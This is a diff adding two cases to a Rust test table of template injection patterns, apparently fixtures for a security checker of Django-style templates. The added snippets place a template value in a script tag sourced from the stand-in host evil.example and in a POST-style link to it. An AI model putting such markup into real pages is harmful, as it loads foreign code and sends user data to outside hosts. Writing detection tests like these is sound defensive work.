@@ -713,6 +713,18 @@ const WAYS: &[(&str, &str, &str, bool)] = &[
         true,
     ),
     (
+        "a query behind the address of another site's script",
+        "<script src=\"https://evil.example/jsonp{% querystring page=2 %}&amp;b={{ x }}\"></script>",
+        "x",
+        true,
+    ),
+    (
+        "a query behind a foreign link that is sent",
+        "<map name=\"m\"><area alt=\"\" data-method=\"post\" href=\"https://evil.example/{{ x }}{% querystring page=2 %}\"></map>",
+        "x",
+        true,
+    ),
+    (
         "a silent cycle before a value in a path",
         "<map name=\"m\"><area alt=\"\" href=\"/{% cycle 'a' 'b' as c silent %}{{ x }}\"></map>",
         "/evil.example",
